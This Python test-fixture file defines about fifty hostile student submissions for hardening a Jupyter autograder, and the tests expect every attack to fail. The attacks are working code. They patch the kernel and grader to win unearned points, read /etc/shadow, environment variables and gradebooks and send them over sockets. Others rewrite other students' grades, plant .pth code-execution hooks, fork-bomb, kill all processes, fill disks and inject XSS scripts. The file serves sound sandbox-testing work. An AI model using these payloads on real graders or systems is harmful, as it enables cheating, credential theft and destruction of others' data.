"""Hostile submissions: each is an untouched release (no correct answer) plus
an attack, graded by the real `python -m autograder grade` in tests/test_hostile.py.

Each must score exactly what the honest stub scores, leak none of the
canaries, change no other student's score, leave the gradebook, the course
and the Python environment unchanged and leave no process behind.

An attack is code placed in a cell the student adds after the provided
cells (`where="cell"`), or after the stub in every answer cell, so that what
it defines replaces the stubs (`where="solutions"`), or inside the first
exercise's function, so that it runs while a test cell is being judged
(`where="function"`). Code may use {port} (a TCP listener of the test on
127.0.0.1) and {abstract} (an abstract Unix socket the test listens on),
replaced as plain text, and the helpers of PRELUDE.
"""

from dataclasses import dataclass

PRELUDE = r'''
import glob as _glob
import os as _os
import socket as _socket
import sys as _sys


def _leak(text):
    """Print what was found, raise it into the feedback and send it out."""
    text = str(text)[:50000]
    print("LEAK", text)
    for family, address in ((_socket.AF_INET, ("127.0.0.1", {port})), (_socket.AF_UNIX, "\0{abstract}")):
        try:
            s = _socket.socket(family, _socket.SOCK_STREAM)
            s.settimeout(1)
            s.connect(address)
            s.sendall(text.encode(errors="replace"))
            s.close()
        except Exception:
            pass


def _read(path, limit=2_000_000):
    try:
        with open(path, "rb") as f:
            return f.read(limit).decode(errors="replace")
    except Exception as exc:
        return ""


def _find(patterns, limit=200):
    found = []
    for pattern in patterns:
        try:
            found += _glob.glob(pattern, recursive=True)[:limit]
        except Exception:
            pass
    return found
'''


@dataclass(frozen=True)
class Attack:
    name: str
    kind: str  # points, reading, harm, grader
    code: str
    where: str = "cell"  # "cell", "solutions" or "function"
    assignment: str = "03_jacobians_vjps"
    markdown: str = ""  # a markdown cell the student adds at the end


# The provided cell after which an attack cell goes, and the answer cell whose
# function runs the attacks placed "in the function".
INSERT_AFTER = {"03_jacobians_vjps": "setup", "05_tensor_engine": "helpers"}
FIRST_ANSWER = {"03_jacobians_vjps": "numerical_vjp"}

ATTACKS = [
    # --- points for nothing: tampering with the kernel the tests used to run in -------------
    Attack(
        "input_transformer",
        "points",
        r"""
get_ipython().input_transformers_post.append(lambda lines: ["pass\n"])
""",
    ),
    Attack(
        "run_cell_patched",
        "points",
        r"""
_ip = get_ipython()
_orig = _ip.run_cell
_ip.run_cell = lambda *a, **k: _orig("pass", store_history=False)
""",
    ),
    Attack(
        "do_execute_patched",
        "points",
        r"""
_kernel = get_ipython().kernel


async def _fake(*args, **kwargs):
    return {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}


_kernel.do_execute = _fake
""",
    ),
    Attack(
        "displayhook_points",
        "points",
        r"""
_ip = get_ipython()
_ip.events.register("pre_run_cell", lambda *a: _ip.displayhook(37))
_sys.displayhook = lambda value: _ip.displayhook(37)
""",
    ),
    Attack(
        "numpy_patched",
        "points",
        r"""
import numpy
numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda a, b, *r, **k: numpy.ones(numpy.broadcast(a, b).shape, bool)
numpy.array_equal = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
""",
    ),
    Attack(
        "autograder_functions_patched",
        "points",
        r"""
import autograder
for _name in dir(autograder):
    if _name.startswith(("assert_", "check_")):
        setattr(autograder, _name, lambda *a, **k: None)
autograder.GradingError = type("GradingError", (Exception,), {})
""",
    ),
    Attack(
        "autograder_internals_patched",
        "points",
        r"""
import autograder.checking.verdicts as _v
import autograder.checking.reference as _r
import autograder.checking.checks as _c
_passed = _v.Verdict(True, "passed", "ok")
_v.judge_gradients = lambda *a, **k: _passed
_c.judge_gradients = lambda *a, **k: _passed
_r.Reference.compare = lambda self, i, got: type("C", (), {"ok": True})()
""",
    ),
    Attack(
        "fake_autograder_module",
        "points",
        r"""
import types
_fake = types.ModuleType("autograder")
_fake.__getattr__ = lambda name: (lambda *a, **k: None)
_sys.modules["autograder"] = _fake
ag = _fake
""",
    ),
    Attack(
        "pre_run_cell_rebinds",
        "points",
        r"""
class _Anything:
    def __getattr__(self, name):
        return lambda *a, **k: None

_ip = get_ipython()
_ip.events.register("pre_run_cell", lambda *a: _ip.user_ns.update(ag=_Anything(), np=_Anything()))
""",
    ),
    Attack(
        "reads_callers_frames",
        "points",
        r"""
import gc
import numpy


def _steal(*args, **kwargs):
    frame = _sys._getframe(1)
    while frame is not None:
        for value in frame.f_locals.values():
            if isinstance(value, numpy.ndarray) and value.shape == getattr(args[-1], "shape", None):
                return value
        frame = frame.f_back
    for obj in gc.get_objects():
        if type(obj).__name__ == "Reference":
            return obj
    return numpy.zeros(1)


numerical_vjp = tanh_vjp = mean_vjp = softmax_vjp = logsumexp_vjp = _steal
tanh_jvp = mean_jvp = softmax_jvp = logsumexp_jvp = _steal
""",
        where="solutions",
    ),
    Attack(
        "builtins_patched",
        "points",
        r"""
import builtins
builtins.AssertionError = type("AssertionError", (Exception,), {})
builtins.isinstance = lambda *a: True
builtins.abs = lambda x: 0
""",
    ),
    Attack(
        "prewritten_oracle_replies",
        "points",
        r"""
import json, struct
_fd = int(_os.environ.get("AUTOGRADER_ORACLE_FD", "-1"))
for _rid in range(1, 3000):
    _body = json.dumps({"re": _rid, "ok": True, "meta": {}, "v": ["t", []]}).encode()
    try:
        _os.write(_fd, struct.pack(">II", len(_body), 0) + _body)
    except OSError:
        break
""",
    ),
    Attack(
        "fake_oracle",
        "points",
        r"""
import autograder.oracle.kernel_side as _ks
from autograder.oracle.channel import Channel


def _fake_serve():
    channel = Channel.from_fd(_os.dup(int(_os.environ["AUTOGRADER_ORACLE_FD"])))
    while True:
        header, buffers = channel.recv()
        if header.get("op") == "end":
            return
        channel.send({"re": header.get("id"), "ok": True, "meta": {}, "v": ["t", []]})


_ks.serve = _fake_serve
""",
    ),
    Attack(
        "garbage_oracle",
        "points",
        r"""
import autograder.oracle.kernel_side as _ks


def _garbage():
    _fd = int(_os.environ["AUTOGRADER_ORACLE_FD"])
    _os.write(_fd, b"\xff\xff\xff\xff\x00\x00\x00\x00" + b"{" * 1000)


_ks.serve = _garbage
""",
    ),
    Attack(
        "oracle_socket_closed",
        "points",
        r"""
_os.close(int(_os.environ["AUTOGRADER_ORACLE_FD"]))
""",
    ),
    Attack(
        "serve_does_nothing",
        "points",
        r"""
import autograder.oracle.kernel_side as _ks
_ks.serve = lambda: None
""",
    ),
    Attack(
        "signals_ignored",
        "points",
        r"""
import signal
for _s in (signal.SIGALRM, signal.SIGINT, signal.SIGTERM):
    signal.signal(_s, signal.SIG_IGN)
""",
    ),
    Attack(
        "lying_array",
        "points",
        r"""
import numpy


class _Liar(numpy.ndarray):
    def __eq__(self, other):
        return True

    def __array__(self, *a, **k):
        return numpy.zeros(3)

    def __float__(self):
        return 0.0


def _liar(*args, **kwargs):
    return numpy.zeros(3).view(_Liar)


numerical_vjp = _liar
tanh_vjp = mean_vjp = lambda *a, **k: (_liar(),)
""",
        where="solutions",
    ),
    Attack(
        "magic_object",
        "points",
        r"""
class _Magic:
    shape = (3,)
    dtype = "float64"

    def __eq__(self, other):
        return True

    def __getattr__(self, name):
        return self

    def __call__(self, *a, **k):
        return self

    def __iter__(self):
        return iter([self])

    def __len__(self):
        return 1

    def __array__(self, *a, **k):
        raise TypeError("no")


tanh_vjp = mean_vjp = softmax_vjp = numerical_vjp = lambda *a, **k: _Magic()
""",
        where="solutions",
    ),
    Attack(
        "raises_control_exceptions",
        "points",
        r"""
class KernelGone(BaseException):
    pass


def _raise(*args, **kwargs):
    raise KernelGone("the kernel is gone")


tanh_vjp = _raise
mean_vjp = lambda *a, **k: (_ for _ in ()).throw(SystemExit(0))
softmax_vjp = lambda *a, **k: (_ for _ in ()).throw(KeyboardInterrupt())
numerical_vjp = lambda *a, **k: (_ for _ in ()).throw(GeneratorExit())
""",
        where="solutions",
    ),
    Attack(
        "huge_and_cyclic_returns",
        "points",
        r"""
import numpy
_cycle = []
_cycle.append(_cycle)
tanh_vjp = lambda *a, **k: (numpy.zeros(120_000_000),)
mean_vjp = lambda *a, **k: _cycle
softmax_vjp = lambda *a, **k: {"k" * 100: [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]}
numerical_vjp = lambda *a, **k: numpy.array([object()])
""",
        where="solutions",
    ),
    Attack(
        "calls_back_the_tests",
        "points",
        r"""
_captured = []


def numerical_vjp(f, x, dldf, h=1e-6):
    _captured.append(f)
    for g in _captured:
        for junk in (None, "x" * 10, [x] * 3, f):
            try:
                g(junk)
            except BaseException:
                pass
    raise NotImplementedError()
""",
        where="solutions",
    ),
    # --- reading what must stay hidden ---------------------------------------------------------
    Attack(
        "reads_course_through_proc",
        "reading",
        r"""
_found = []
for _pid in _os.listdir("/proc"):
    if _pid.isdigit():
        for _what in ("cwd", "root"):
            for _path in _find([f"/proc/{_pid}/{_what}/**/*.ipynb", f"/proc/{_pid}/{_what}/**/gradebook.db"], 20):
                _found.append(_path + "\n" + _read(_path))
        _found.append(_read(f"/proc/{_pid}/environ"))
_found.append(str(_os.environ.get("JPY_PARENT_PID")))
_leak("\n".join(_found))
""",
    ),
    Attack(
        "globs_the_filesystem",
        "reading",
        r"""
_paths = _find(["/**/source/**/*.ipynb", "/**/gradebook.db", "/**/submitted/**/*.ipynb", "/**/secret*.txt",
                "/home/**/*", "/root/**/*", "/tmp/**/*", "/work/**/*.ipynb"], 100)
_leak("\n".join(p + "\n" + _read(p, 100000) for p in _paths))
""",
    ),
    Attack(
        "reads_environment",
        "reading",
        r"""
_leak(dict(_os.environ))
_leak(_read("/proc/self/environ") + _read("/proc/1/environ"))
""",
    ),
    Attack(
        "reads_system_secrets",
        "reading",
        r"""
_leak(_read("/etc/shadow") + _read("/root/.bash_history") + _read("/etc/passwd") + str(_os.listdir("/")))
""",
    ),
    Attack(
        "network_out",
        "reading",
        r"""
_leak("hello from the kernel")
for _host in ("127.0.0.1", "10.0.2.2", "8.8.8.8", "1.1.1.1"):
    try:
        _socket.create_connection((_host, {port}), timeout=1).sendall(b"LEAK")
    except Exception:
        pass
try:
    _socket.getaddrinfo("pypi.org", 443)
except Exception:
    pass
_u = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
try:
    _u.sendto(b"LEAK", ("127.0.0.1", {port}))
except Exception:
    pass
""",
    ),
    Attack(
        "exfiltrates_through_feedback",
        "reading",
        r"""
_everything = "\n".join(_read(p, 20000) for p in _find(["/**/*.ipynb", "/**/*.db", "/**/*.txt"], 200))


def numerical_vjp(f, x, dldf, h=1e-6):
    raise ValueError("FOUND:" + _everything + str(dict(_os.environ)))


def tanh_vjp(dldf, x):
    raise ValueError("\x1b[31m<script>alert(1)</script>" * 1000)
""",
        where="solutions",
    ),
    # --- harm to others ---------------------------------------------------------------------------
    Attack(
        "background_writer",
        "harm",
        r"""
_pid = _os.fork()
if _pid == 0:
    _os.setsid()
    if _os.fork() == 0:
        import time
        time.sleep(3)
        for _path in _find(["/**/gradebook.db", "/**/submitted/**/*.ipynb", "/**/autograded/**/*.ipynb"], 50):
            try:
                open(_path, "w").write("pwned")
            except Exception:
                pass
        time.sleep(600)
    _os._exit(0)
""",
    ),
    Attack(
        "writes_the_gradebook",
        "harm",
        r"""
import sqlite3
for _path in _find(["/**/gradebook.db", "../../../gradebook.db", "../../gradebook.db"], 20) + [
        "../../../gradebook.db", "/proc/1/cwd/gradebook.db"]:
    try:
        _db = sqlite3.connect(_path)
        _db.execute("UPDATE grade SET auto_score = 1000")
        _db.execute("INSERT INTO student (id) VALUES ('intruder')")
        _db.commit()
    except Exception:
        pass
    try:
        open(_path, "w").write("")
    except Exception:
        pass
""",
    ),
    Attack(
        "writes_other_submissions",
        "harm",
        r"""
for _path in _find(["/**/submitted/**/*.ipynb", "/**/release/**/*.ipynb", "/**/source/**/*.ipynb"], 200):
    try:
        open(_path, "w").write("{}")
    except Exception:
        pass
""",
    ),
    Attack(
        "writes_the_environment",
        "harm",
        r"""
import site
import autograder
for _dir in set(site.getsitepackages() + [_os.path.dirname(_os.path.dirname(autograder.__file__))] + _sys.path):
    try:
        open(_os.path.join(_dir, "zz_evil.pth"), "w").write("import os; os.system('touch /tmp/pwned')\n")
    except Exception:
        pass
for _root, _dirs, _files in _os.walk(_os.path.dirname(autograder.__file__)):
    for _name in _files:
        try:
            open(_os.path.join(_root, _name), "a").write("\nraise SystemExit('pwned')\n")
        except Exception:
            pass
""",
    ),
    Attack(
        "attacks_other_kernels",
        "harm",
        r"""
_files = _find(["/run/**/*", "/tmp/**/*.json", "/proc/*/root/run/kernel/*", "/root/.local/share/jupyter/runtime/*",
                "/proc/*/fd/*"], 100)
_leak("\n".join(_files))
import zmq
_ctx = zmq.Context.instance()
for _path in _files:
    if "kernel-" in _path or "/run/kernel/" in _path:
        try:
            _s = _ctx.socket(zmq.DEALER)
            _s.connect("ipc://" + _path)
            _s.send_multipart([b"<IDS|MSG>", b"", b"{}", b"{}", b"{}", b'{"code": "import os; os._exit(1)"}'])
        except Exception:
            pass
""",
    ),
    Attack(
        "script_in_outputs",
        "harm",
        r"""
from IPython.display import HTML, Javascript, SVG, Markdown, Latex, display
display(HTML("<script>document.title='pwned'</script><img src=x onerror=alert(1)>"))
display(Javascript("alert('pwned')"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'))
display(Markdown("<script>alert(3)</script>"))
display({"text/html": "<script>alert(4)</script>", "application/javascript": "alert(5)"}, raw=True)
print("<script>alert(6)</script>")
""",
        markdown="<script>alert(7)</script><img src=x onerror=alert(8)><b>pwned-markdown</b>",
    ),
    Attack(
        "huge_error_message",
        "harm",
        r"""
def tanh_vjp(dldf, x):
    raise ValueError("x" * 50_000_000)
""",
        where="solutions",
    ),
    # --- the grader itself ------------------------------------------------------------------------
    Attack(
        "kills_everything",
        "grader",
        r"""
import signal
for _sig in (signal.SIGKILL, signal.SIGTERM):
    try:
        _os.kill(-1, _sig)
    except Exception:
        pass
for _pid in [int(p) for p in _os.listdir("/proc") if p.isdigit()] + [_os.getppid()]:
    if _pid != _os.getpid():
        try:
            _os.kill(_pid, signal.SIGKILL)
        except Exception:
            pass
""",
        where="function",
    ),
    Attack(
        "fork_bomb",
        "grader",
        r"""
for _ in range(100000):
    try:
        _os.fork()
    except OSError:
        pass
""",
        where="function",
    ),
    Attack(
        "fills_the_disk",
        "grader",
        r"""
for _dir in ("/tmp", _os.path.expanduser("~"), "/dev/shm", "/run/kernel", ".", "/var/tmp"):
    for _k in range(100):
        try:
            with open(_os.path.join(_dir, f"fill-{_k}-HOSTILE-MARK"), "wb") as _f:
                while True:
                    _f.write(b"x" * 2**20)
        except Exception:
            break
""",
    ),
    Attack(
        "leaves_processes",
        "grader",
        r"""
import subprocess
for _ in range(3):
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            import time
            time.sleep(3600)
        _os._exit(0)
try:
    subprocess.Popen(["sleep", "3600"], start_new_session=True)
except Exception:
    pass
""",
    ),
    Attack(
        "stops_itself",
        "grader",
        r"""
import signal
_os.kill(_os.getpid(), signal.SIGSTOP)
""",
        where="function",
    ),
    Attack(
        "ptrace_and_proc_mem",
        "grader",
        r"""
import ctypes
_libc = ctypes.CDLL(None)
for _pid in range(1, 200):
    _libc.ptrace(16, _pid, 0, 0)  # PTRACE_ATTACH
    try:
        open(f"/proc/{_pid}/mem", "r+b")
    except Exception:
        pass
""",
    ),
    Attack(
        "exits_inside_a_test",
        "grader",
        r"""
_os._exit(3)
""",
        where="function",
    ),
    Attack(
        "memory_bomb_inside_a_test",
        "grader",
        r"""
_bomb = bytearray(16 * 1024**3)
""",
        where="function",
    ),
    Attack(
        "cpu_threads",
        "grader",
        r"""
import threading
import numpy


def _spin():
    a = numpy.ones((300, 300))
    while True:
        a @ a


for _ in range(64):
    threading.Thread(target=_spin, daemon=True).start()
""",
    ),
    # --- the engine of assignment 05: handles, callbacks, provided code ---------------------------
    Attack(
        "tensor_lies",
        "points",
        r"""
class _Lying(Tensor):
    def __eq__(self, other):
        return True

    def __hash__(self):
        return 0

    def __getattribute__(self, name):
        if name == "grad":
            return object.__getattribute__(self, "value") * 0
        return object.__getattribute__(self, name)


Tensor.__eq__ = lambda self, other: True
Tensor.__hash__ = lambda self: 0
Tensor.backward = lambda self, grad=None: None
topological_order = lambda root: [root]
""",
        assignment="05_tensor_engine",
    ),
    Attack(
        "provided_code_replaced",
        "points",
        r"""
import numpy
for _key, _op in list(TABLE.items()):
    TABLE[_key] = _op._replace(vjp=lambda g, *xs, **k: tuple(numpy.zeros_like(x) for x in xs))
apply_op = lambda key, *args, **kwargs: args[0] if isinstance(args[0], Tensor) else Tensor(args[0])
as_tensor = lambda x: x
""",
        assignment="05_tensor_engine",
    ),
    Attack(
        "keeps_test_callbacks",
        "points",
        r"""
_kept = []


def _keep(value):
    _kept.append(value)
    for f in list(_kept):
        if callable(f):
            try:
                f(Tensor(1.0))
            except BaseException:
                pass
    raise NotImplementedError()


Tensor.__add__ = Tensor.__radd__ = Tensor.__mul__ = lambda self, other: _keep(other)
""",
        where="solutions",
        assignment="05_tensor_engine",
    ),
    Attack(
        "oracle_closed_engine",
        "points",
        r"""
_os.close(int(_os.environ["AUTOGRADER_ORACLE_FD"]))
""",
        assignment="05_tensor_engine",
    ),
]

assert len({a.name for a in ATTACKS}) == len(ATTACKS)
